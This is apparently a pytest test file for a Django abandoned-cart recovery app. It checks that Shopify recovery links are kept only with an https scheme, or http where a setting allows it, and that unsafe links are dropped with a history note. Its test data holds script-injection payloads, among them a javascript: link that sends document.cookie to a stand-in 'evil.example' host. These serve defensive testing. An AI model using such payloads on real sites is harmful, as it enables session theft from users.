"""A cart's recovery link is rendered as a link and sent to customers: only https (http where the setting allows it)
is kept, from every source; any other link is dropped, the cart kept, and its history says why."""

from __future__ import annotations

import importlib
from datetime import timedelta

import pytest
from django.apps import apps as django_apps
from django.conf import settings as live_settings
from django.utils import timezone

from config.settings import base as base_settings
from integrations.parsing import recovery_link_problem
from recovery.models import Cart, CartEvent
from recovery.services.shopify_reconciliation import CREATED, store_reconcile
from tests.factories import CartFactory
from tests.payloads import graphql_checkout, shopify_checkout
from tests.recovery.shopify_stand_in import ACCESS_TOKEN

pytestmark = pytest.mark.django_db

UNSAFE = ["javascript:alert(document.cookie)", "JavaScript:fetch('//evil.example/'+document.cookie)",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "ftp://demo-store.myshopify.com/recover"]
GOOD = "https://demo-store.myshopify.com/12345/checkouts/c1a2b3/recover?key=abc"




def _note(cart: Cart) -> str:
    """The note of the cart's history, if an event has one."""
    return next((event.detail["note"] for event in cart.events.order_by("pk") if "note" in event.detail), "")


@pytest.mark.parametrize("link", UNSAFE)
def test_an_unsafe_link_from_a_shopify_webhook_is_dropped_and_the_cart_kept(deliver, link):
    # when
    deliver(shopify_checkout(abandoned_checkout_url=link), topic="checkouts/create")

    # then
    cart = Cart.objects.get()
    assert cart.checkout_url == ""
    assert cart.line_items.count() == 2 and cart.customer.email == "jane.doe@example.com"
    assert _note(cart).startswith("Recovery link dropped: the recovery link's scheme ")
    assert "is not allowed (only https://" in _note(cart)
    assert link not in _note(cart)  # the link itself is not repeated (it may carry the customer's email)


def test_a_dropped_link_keeps_the_good_link_stored_before(deliver):
    deliver(shopify_checkout(abandoned_checkout_url=GOOD), topic="checkouts/create")

    deliver(shopify_checkout(abandoned_checkout_url=UNSAFE[0], updated_at="2026-11-20T10:16:00-05:00"))

    cart = Cart.objects.get()
    assert cart.checkout_url == GOOD
    assert _note(cart).startswith("Recovery link dropped")


def test_a_safe_link_is_stored_without_a_note(deliver):
    deliver(shopify_checkout(abandoned_checkout_url=GOOD), topic="checkouts/create")

    cart = Cart.objects.get()
    assert cart.checkout_url == GOOD and _note(cart) == ""


@pytest.mark.parametrize(("allowed", "stored"), [(True, "http://localhost:8000/checkouts/1/recover"), (False, "")])
def test_http_links_are_kept_only_where_the_setting_allows_them(deliver, settings, allowed, stored):
    settings.RECOVERY_LINK_ALLOW_HTTP = allowed

    deliver(shopify_checkout(abandoned_checkout_url="http://localhost:8000/checkouts/1/recover"))

    assert Cart.objects.get().checkout_url == stored


def test_the_development_and_test_settings_allow_http_and_the_base_does_not():
    assert base_settings.RECOVERY_LINK_ALLOW_HTTP is False
    assert live_settings.RECOVERY_LINK_ALLOW_HTTP is True


@pytest.mark.parametrize(
    ("link", "problem"),
    [
        ("", ""),
        (GOOD, ""),
        ("https://user:secret@demo-store.myshopify.com/recover", "carries a user name or password"),
        ("https:///recover", "names no host"),
        ("https:\\\\evil.example/recover", "names no host"),
        ("java\tscript:alert(1)", "spaces or control characters"),
        ("https://demo-store.myshopify.com:99999/recover", "not a valid URL"),
        ("//demo-store.myshopify.com/recover", "scheme (none) is not allowed"),
        ("vbscript:msgbox(1)", "scheme vbscript: is not allowed"),
    ],
)
def test_the_link_rule(link, problem, settings):
    settings.RECOVERY_LINK_ALLOW_HTTP = False

    assert (problem in recovery_link_problem(link)) if problem else recovery_link_problem(link) == ""


@pytest.mark.parametrize("link", UNSAFE)
def test_an_unsafe_link_from_the_reconciliation_is_dropped_and_the_cart_kept(shopify_store, shopify_api, link):
    # given a checkout no webhook brought, with an unsafe recovery link
    shopify_store.shopify_admin_access_token = ACCESS_TOKEN
    shopify_store.save()
    node = graphql_checkout(1001, updated_at=timezone.now() - timedelta(hours=1))
    shopify_api.checkouts[ACCESS_TOKEN] = [{**node, "abandonedCheckoutUrl": link}]

    # when
    result = store_reconcile(store=shopify_store, sleep=lambda seconds: None)

    # then
    assert result.outcomes == {CREATED: 1}
    cart = Cart.objects.get(external_id="1001")
    assert cart.checkout_url == "" and cart.total_value > 0
    assert _note(cart).startswith("Recovery link dropped")


def test_the_cart_page_says_why_its_link_was_dropped(deliver, client, supervisor_user):
    deliver(shopify_checkout(abandoned_checkout_url=UNSAFE[0]), topic="checkouts/create")
    cart = Cart.objects.get()
    client.force_login(supervisor_user)

    page = client.get(f"/carts/{cart.pk}/").content.decode()

    assert "href=\"javascript:" not in page
    assert "Checkout link" not in page
    assert "Recovery link dropped: the recovery link&#x27;s scheme javascript: is not allowed" in page


def test_the_migration_empties_stored_links_that_are_not_http(shopify_store):
    # given links stored before they were checked
    unsafe = CartFactory(store=shopify_store)
    safe = CartFactory(store=shopify_store)
    plain = CartFactory(store=shopify_store)
    Cart.objects.filter(pk=unsafe.pk).update(checkout_url="JavaScript:alert(1)")
    Cart.objects.filter(pk=safe.pk).update(checkout_url=GOOD)
    Cart.objects.filter(pk=plain.pk).update(checkout_url="http://localhost:8000/recover")
    migration = importlib.import_module("recovery.migrations.0017_drop_unsafe_recovery_links")

    # when
    migration.unsafe_links_drop(django_apps, None)

    # then
    assert dict(Cart.objects.values_list("pk", "checkout_url")) == {
        unsafe.pk: "", safe.pk: GOOD, plain.pk: "http://localhost:8000/recover"}
    event = CartEvent.objects.get(cart=unsafe)
    assert event.detail["note"].startswith("Recovery link dropped") and event.source == CartEvent.Source.SYSTEM
